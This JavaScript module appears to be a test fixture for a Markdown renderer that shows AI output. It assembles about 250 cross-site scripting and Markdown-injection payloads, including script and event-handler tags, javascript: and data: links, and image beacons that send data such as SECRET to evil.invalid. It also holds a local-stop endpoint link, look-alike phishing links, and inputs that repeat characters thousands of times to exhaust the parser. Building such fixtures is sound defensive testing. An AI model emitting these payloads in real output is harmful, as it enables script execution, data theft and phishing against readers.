// Text that a model, or whoever feeds one, could put before a reader to have the page fetch or run something: 250 and some, from
// the classes of public cheat sheets on cross-site scripting, Markdown's own ways to an address, and look-alike letters. Every
// address leads to evil.invalid.

const SCRIPTS = ["alert(1)", "window.pwned=1", "fetch('http://evil.invalid/x')", "new Image().src='http://evil.invalid/y'"];
const TAGS = [
  "<script>$</script>", "<ScRiPt>$</sCrIpT>", "<script src=http://evil.invalid/a.js></script>", "<script type=module>$</script>", "<svg><script>$</script></svg>",
  "<img src=x onerror=\"$\">", "<img src=http://evil.invalid/p.png>", "<img srcset=\"http://evil.invalid/p.png 1x\">", "<svg onload=\"$\">", "<svg><animate onbegin=\"$\" attributeName=x dur=1s>",
  "<iframe src=http://evil.invalid/>", "<iframe srcdoc=\"<script>$</script>\">", "<object data=http://evil.invalid/o>", "<embed src=http://evil.invalid/e>", "<link rel=stylesheet href=http://evil.invalid/s.css>",
  "<link rel=prefetch href=http://evil.invalid/pf>", "<style>@import 'http://evil.invalid/i.css';</style>", "<div style=\"background:url(http://evil.invalid/bg)\">x</div>", "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">", "<base href=http://evil.invalid/>",
  "<form action=http://evil.invalid/f><button autofocus onfocus=\"$\">x</button></form>", "<input autofocus onfocus=\"$\">", "<details open ontoggle=\"$\">x</details>", "<video src=http://evil.invalid/v autoplay onerror=\"$\">", "<audio src=http://evil.invalid/a autoplay>",
  "<body onload=\"$\">", "<marquee onstart=\"$\">x</marquee>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=$>\">", "<template><script>$</script></template>", "<a href=\"javascript:$\">x</a>",
  "<noscript><p title=\"</noscript><img src=x onerror=$>\">", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='http://evil.invalid/u'/></svg>#x\">", "<portal src=http://evil.invalid/>", "<x onclick=\"$\" tabindex=1 autofocus onfocus=\"$\">x", "<table background=http://evil.invalid/t><tr><td>x",
];
const LINKS = [
  "[x](javascript:$)", "[x](JaVaScRiPt:$)", "[x](java\tscript:$)", "[x](&#106;avascript:$)", "[x](&#x6A;avascript:$)", "[x]( javascript:$ )", "[x](<javascript:$>)", "[x](vbscript:$)", "[x](data:text/html,<script>$</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.invalid/)", "[x](/lares/v1/stop)", "[x](\\\\evil.invalid\\a)", "<javascript:$>", "[x]: javascript:$\n\n[x]", "[x](blob:http://evil.invalid/1)", "[x](filesystem:http://evil.invalid/)",
  "![x](http://evil.invalid/i.png)", "![x](javascript:$)", "![x](data:image/svg+xml,<svg onload=$>)", "![x](https://evil.invalid/?leak=SECRET)", "[![x](http://evil.invalid/n.png)](javascript:$)", "![x][y]\n\n[y]: http://evil.invalid/ref.png", "[x](http://evil.invalid/ \"t\\\" onmouseover=$\")",
];
const WRAPS = [(x) => x, (x) => `> ${x}`, (x) => `- ${x}\n- b`, (x) => `| a | b |\n|---|---|\n| ${x.replaceAll("\n", " ").replaceAll("|", "\\|")} | c |`];
const OTHERS = [
  "[аррӏе.com](http://evil.invalid/)", "[paypal.com](https://evil.invalid/login)", "[https://bank.example](http://xn--80ak6aa92e.invalid/)", "[x](http://user:pass@evil.invalid/)", "[google.com\u202e](http://evil.invalid/)", "[\u200b\u200b](http://evil.invalid/)",
  "http://evil.invalid/auto", "www.evil.invalid", "mailto:a@evil.invalid?cc=b@evil.invalid", "<http://evil.invalid/angle>", "```html\n<img src=x onerror=alert(1)>\n```", "```\n</code></pre><script>alert(1)</script>", "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>",
  "<!-- --><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "<think><img src=x onerror=alert(1)></think><svg onload=alert(1)>", "# <img src=x onerror=alert(1)>",
  "[a](https://evil.invalid/%0d%0aSet-Cookie:x=1)", "[b](http://127.0.0.1:5273/lares/v1/stop)", "[c](http://[::1]:5273/)", "[d](https://evil.invalid/#<img src=x onerror=alert(1)>)", "![e](//evil.invalid/i.png)", "![f](blob:http://evil.invalid/1)",
  "<script\n>alert(1)</script\n>", "<img\tsrc=x\tonerror=alert(1)>", "<svg/onload=alert(1)>", "<a href=http://evil.invalid ping=http://evil.invalid/ping>x</a>", "<frameset onload=alert(1)>", "<isindex type=image src=http://evil.invalid/is onerror=alert(1)>",
  "1. <script>alert(1)</script>", "- [x] <svg onload=alert(1)>", "***<img src=x onerror=alert(1)>***", "~~[x](javascript:alert(1))~~", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\u0000<script>alert(1)</script>", "<a\u0000 href=javascript:alert(1)>x</a>",
  ">".repeat(5_000) + "x", "[".repeat(3_000), "*a ".repeat(5_000), "- ".repeat(2_000) + "x", "|".repeat(3_000) + "\n" + "|-".repeat(3_000), "<".repeat(5_000), "`".repeat(4_999), "&".repeat(5_000), "_a__".repeat(4_000), "![".repeat(3_000), "\u202e".repeat(500), "a\u0301".repeat(3_000),
];

export const PAYLOADS = [
  ...TAGS.flatMap((tag, i) => [0, 1, 2].map((k) => WRAPS[(i + k) % WRAPS.length](tag.replaceAll("$", SCRIPTS[(i + k) % SCRIPTS.length])))),
  ...LINKS.flatMap((link, i) => [0, 1, 2, 3].map((k) => WRAPS[k](link.replaceAll("$", SCRIPTS[(i + k) % SCRIPTS.length])))),
  ...OTHERS,
];
